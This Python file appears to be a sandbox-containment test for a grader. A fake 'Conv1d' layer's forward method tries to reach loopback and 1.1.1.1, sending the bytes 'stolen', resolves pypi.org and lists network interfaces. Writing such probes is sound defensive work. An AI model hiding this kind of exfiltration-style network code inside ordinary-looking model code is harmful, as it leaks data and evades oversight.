"""Tries to reach a listener the test opened on the grader's loopback, and the outside world, and lists the
network interfaces it can see (through netlink, which the seccomp filter refuses like every socket family but
AF_UNIX, and through /proc, which shows its own network namespace).

TARGETS: port.
"""

import socket


def attempt(what, action):
    try:
        result = action()
    except Exception as exc:
        print("BLOCKED", what, type(exc).__name__)
    else:
        print("GOT", what, repr(result)[:200])


def connect(host, port):
    with socket.create_connection((host, port), timeout=1) as conn:
        conn.sendall(b"stolen")
        return "connected"


def proc_interfaces():
    with open("/proc/net/dev") as dev:
        return sorted(line.split(":")[0].strip() for line in dev.readlines()[2:])


class Conv1d:
    def __init__(self, *args):
        pass

    def forward(self, x):
        attempt("loopback", lambda: connect("127.0.0.1", TARGETS["port"]))  # noqa: F821
        attempt("outside", lambda: connect("1.1.1.1", 53))
        attempt("dns", lambda: socket.getaddrinfo("pypi.org", 443))
        attempt("interfaces", lambda: socket.if_nameindex())
        attempt("proc interfaces", proc_interfaces)
        return x
